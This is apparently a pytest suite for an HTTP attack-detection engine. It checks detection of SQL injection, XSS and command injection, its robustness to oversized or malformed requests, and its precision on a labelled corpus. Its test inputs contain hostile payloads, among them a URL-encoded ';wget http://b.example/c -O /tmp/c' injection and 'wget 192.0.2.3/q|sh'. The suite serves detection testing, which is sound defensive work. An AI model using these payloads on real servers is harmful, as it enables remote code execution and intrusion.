"""The engine as a whole: what it answers, what it bears, and its figures on the labelled corpus."""

from __future__ import annotations

import gzip
import importlib.util
import json
import random
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mirage.analysis.finding import Severity
from mirage.analysis.http import engine as engine_module
from mirage.analysis.http.engine import OVERLAP, PIECE, Engine, shipped_engine
from mirage.analysis.http.request import Request, from_bytes
from mirage.analysis.rulebook import load_rules, shipped_rules

THREAT = Path(__file__).parents[5] / "shared" / "threat"
BROWSER = {"Host": "www.example.com", "User-Agent": "Mozilla/5.0 (X11; rv:128.0) Firefox/128.0", "Accept": "*/*"}


def test_an_attack_is_named_with_its_techniques_and_where_it_stands() -> None:
    found = shipped_engine().assess({"method": "GET", "uri": "/a?id=9%27%20or%208=8", "headers": BROWSER})
    assert (found.classes, found.techniques, found.tactics, found.severity, found.alert, found.truncated) == (
        ("sqli",), ("T1190",), ("initial-access",), Severity.HIGH, True, False,
    )  # fmt: skip
    finding = next(finding for finding in found.findings if finding.rule == "sqli-tautology")
    assert (finding.matched, finding.how, (finding.start, finding.end)) == ("' or 8=", ("value id", "percent"), (1, 8))


def test_an_ordinary_request_is_no_attack() -> None:
    found = shipped_engine().assess({"method": "GET", "uri": "/shop?sort=price&page=2", "headers": BROWSER})
    assert (found.classes, found.alert, found.findings) == ((), False, ())


def test_a_hint_is_outweighed_by_what_is_sure() -> None:
    found = shipped_engine().assess({"method": "DELETE", "uri": "/a?id=9%27%20or%208=8--", "headers": BROWSER})
    assert "method-unusual" in {finding.rule for finding in found.findings}
    assert found.classes == ("sqli",)


def test_beyond_the_bounds_head_and_tail_are_read_and_it_is_said() -> None:
    found = shipped_engine().assess(
        {"method": "POST", "uri": "/", "headers": BROWSER, "body": "q=" + "a" * 900_000 + "<script>go()</script>"}
    )
    assert "xss" in found.classes and found.truncated and all(finding.truncated for finding in found.findings)


def test_a_wrong_rule_is_named_by_file_and_line_and_the_rest_go_on(tmp_path: Path) -> None:
    head = "title: t\ntechniques: [T1190]\nseverity: low\nconfidence: low\nhits: [a]\nmisses: [b]\n"
    (tmp_path / "one.yml").write_text(
        f"id: good\n{head}match:\n  kind: http\n  pattern: zz+y\n"
        f"---\nid: bad-pattern\n{head}match:\n  kind: http\n  pattern: '(?=x)'\n"
        f"---\nid: bad-place\n{head}match:\n  kind: http\n  where: [nowhere]\n  pattern: x\n"
        f"---\nid: bad-shape\n{head}match:\n  kind: http\n  shape: quote quux\n"
        f"---\nid: bad-fact\n{head}match:\n  kind: http\n  fact: no.such\n"
        f"---\nid: empty\n{head}match:\n  kind: http\n"
    )
    engine = Engine(load_rules([tmp_path]))
    name = tmp_path.name
    assert [str(problem).split(": ")[0] for problem in engine.problems] == [f"{name}/one.yml:{line}" for line in (21, 32, 44, 55, 64)]
    assert engine.assess({"uri": "/?q=azzzy"}).findings[0].rule == "good"


def test_a_catastrophic_pattern_is_linear(tmp_path: Path) -> None:
    (tmp_path / "one.yml").write_text(
        "id: a\ntitle: t\ntechniques: [T1190]\nseverity: low\nconfidence: low\nhits: [a]\nmisses: [b]\n"
        "match:\n  kind: http\n  pattern: (a+)+$|(a|aa)+b|(.*.*)*c\n"
    )
    assert Engine(load_rules([tmp_path])).assess({"uri": "/?q=" + "a" * 60_000 + "!"}).findings == ()


def _noise(seed: int) -> bytes:
    words = b"select union ' \" ( ) < > ; | ` $( {{ -- # /* */ or = ../ ${ %27 &lt; \\u0041 char( script onload= http://a.b/ 0x41 cat \n".split(
        b" "
    )
    return b" ".join(random.Random(seed).choices(words, k=12_000))


@pytest.mark.parametrize(
    "row",
    [
        {"uri": "/?q=" + "'" * 100_000},
        {"uri": "/?q=" + "%25" * 60_000},
        {"method": "POST", "body": "q=" + "&#x26;#x26;" * 6000},
        {"method": "POST", "body": "q=" + "<svg onload=x " * 5000},
        {"method": "POST", "body": "q=" + "${${lower:j}" * 5400},
        {"method": "POST", "body": "[" * 60_000, "headers": {"Content-Type": "application/json"}},
        {"method": "POST", "body": gzip.compress(gzip.compress(bytes(50_000_000))), "headers": {"Content-Encoding": "gzip, gzip"}},
        {"method": "POST", "body": bytes(range(256)) * 300},
        {"method": "POST", "body": "\ud800" * 10_000},
        {"method": "POST", "body": _noise(1)},
        {"uri": "/", "headers": [(f"X-{number}", f"' or {number}=1; cat /srv") for number in range(10_000)]},
        {"uri": "/?" + "&".join(f"a{number}=;id" for number in range(4000))},
        {"uri": "/?q=" + r"\think\class." * 150},  # one word of 2 KB, whose name would be worked out 72 times
        {"uri": None, "method": ["x"], "headers": 7, "body": 8},
    ],
    ids=lambda row: str(row)[:40],
)
def test_a_hostile_request_is_borne(row: dict[str, Any]) -> None:
    assert isinstance(shipped_engine().assess(row).classes, tuple)


class _Counted:
    """An expression that takes down how much it is tried on at once."""

    def __init__(self, expression: Any, sizes: list[int]) -> None:
        self.pattern = expression.pattern
        self._expression = expression
        self._sizes = sizes

    def search(self, text: bytes, start: int, end: int) -> Any:
        self._sizes.append(end - start)
        return self._expression.search(text, start, end)


class _Asked:
    """A budget that is spent when it was asked so often."""

    def __init__(self, times: int) -> None:
        self._left = times

    def is_spent(self) -> bool:
        self._left -= 1
        return self._left < 0


@pytest.mark.parametrize("times", [0, 40, 400])
def test_no_expression_sees_more_at_once_than_a_piece_and_none_is_tried_when_time_is_over(
    times: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    sizes: list[int] = []
    engine = Engine(shipped_rules())
    engine._tests = [msgspec.structs.replace(test, expression=_Counted(test.expression, sizes)) for test in engine._tests]
    monkeypatch.setattr(engine_module, "Budget", lambda _: _Asked(times))
    found = engine.assess({"method": "POST", "uri": "/", "headers": BROWSER, "body": _noise(2)})
    assert found.truncated and len(sizes) <= times and max(sizes, default=0) <= PIECE + OVERLAP


def test_of_a_long_text_the_tail_is_tried_before_the_middle() -> None:
    pieces = engine_module._pieces(10 * PIECE)
    assert pieces[:2] == [(0, PIECE + OVERLAP), (9 * PIECE, 10 * PIECE)]
    assert sorted(pieces) == [(at, min(at + PIECE + OVERLAP, 10 * PIECE)) for at in range(0, 10 * PIECE, PIECE)]


@settings(max_examples=50, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_of_the_wire_are_borne(data: bytes) -> None:
    shipped_engine().assess(from_bytes(data))


@settings(max_examples=50, deadline=None)
@given(
    st.text(max_size=60),
    st.text(max_size=80),
    st.lists(st.tuples(st.text(max_size=12), st.text(max_size=40)), max_size=4),
    st.binary(max_size=120),
)
def test_any_parts_of_a_request_are_borne(method: str, target: str, headers: list[tuple[str, str]], body: bytes) -> None:
    shipped_engine().assess({"method": method, "uri": target, "headers": headers, "body": body})
    shipped_engine().assess(Request(target="/?q=" + "%27".join(target.split()).encode("utf-8", "replace").decode(), body=body))


@pytest.mark.skipif(not THREAT.is_dir(), reason=f"the corpora are not at {THREAT}")
def test_the_figures_on_the_labelled_corpus() -> None:
    spec = importlib.util.spec_from_file_location("score", THREAT / "score.py")
    assert spec is not None and spec.loader is not None
    score = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(score)
    engine, predictions = shipped_engine(), []
    for name in ("http", "http-benign"):
        for line in (THREAT / f"{name}.jsonl").read_text(encoding="utf-8").splitlines():
            row = json.loads(line)
            found = engine.assess(row)
            predictions.append({"id": row["id"], "classes": list(found.classes), "alert": found.alert})
    tables = score.score(THREAT, predictions)
    assert tables["http paranoia 1-2"]["recall"] >= 0.92
    assert tables["http paranoia 1-2"]["precision"] >= 0.92
    assert tables["http benign ordinary"]["false_positives"] <= 0.005
    assert tables["http benign crs-fp"]["false_positives"] <= 0.08


def test_a_command_in_a_request_is_read_by_the_rules_of_commands() -> None:
    found = shipped_engine().assess({"uri": "/ping?host=a%3Bwget%20http%3A%2F%2Fb.example%2Fc%20-O%20%2Ftmp%2Fc", "headers": BROWSER})
    assert found.classes == ("rce",)
    assert {"T1190", "T1059.004", "T1105"} <= set(found.techniques)


def test_what_is_remembered_of_texts_changes_no_answer() -> None:
    requests = [engine_module.example(rule.hits[0]) for rule in shipped_rules().of("http")]
    engine = Engine(shipped_rules())
    first = [engine.assess(request).findings for request in requests]
    assert [engine.assess(request).findings for request in reversed(requests)] == first[::-1]


@pytest.mark.parametrize(
    ("value", "is_alert"), [("wget 192.0.2.3/q|sh", True), ("terms|bash", True), ("bash", False), ("a | b", False)]
)
def test_what_is_given_to_a_shell_at_the_end_is_a_command(value: str, is_alert: bool) -> None:
    found = shipped_engine().assess({"method": "POST", "uri": "/run", "headers": BROWSER, "body": f"text={value}"})
    assert ("rce" in found.classes) is is_alert
